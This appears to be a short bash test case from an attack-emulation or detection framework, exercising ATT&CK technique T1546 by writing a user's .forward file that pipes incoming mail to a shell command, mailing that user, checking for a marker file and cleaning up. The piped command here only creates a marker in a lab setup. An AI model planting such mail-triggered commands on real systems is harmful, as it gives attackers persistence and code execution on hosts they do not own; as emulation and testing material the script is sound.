# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1546
about="a user's .forward is a command of the shell's"
attack() {
	echo '"|echo in >/var/tmp/fidelity/marker/was-here"' >/home/joe/.forward
	chown joe /home/joe/.forward
	smtp a@else.example joe@lab.example 10
	perhaps effect
}
effect() { [ -e "$marker" ]; }
after() { rm -f /home/joe/.forward; }
